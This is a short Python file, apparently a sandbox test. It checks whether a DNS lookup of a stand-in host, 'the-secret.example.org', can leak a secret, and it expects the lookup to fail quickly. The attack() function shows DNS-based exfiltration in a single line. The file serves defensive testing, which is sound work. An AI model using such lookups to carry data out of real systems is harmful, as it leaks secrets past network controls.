"""Asks for names: a question can carry a secret out."""

from __future__ import annotations

import socket
import time

ATTACK = {"says": "no names True", "wall_s": 5.0}
CONTROL = {"says": "127.0.0.1 127.0.0.1"}


def attack() -> None:
    began = time.monotonic()
    try:
        print(socket.getaddrinfo("the-secret.example.org", 80))
    except socket.gaierror:
        print("no names", time.monotonic() - began < 3)


def control() -> None:
    print(socket.gethostbyname("localhost"), socket.gethostbyname(socket.gethostname()))
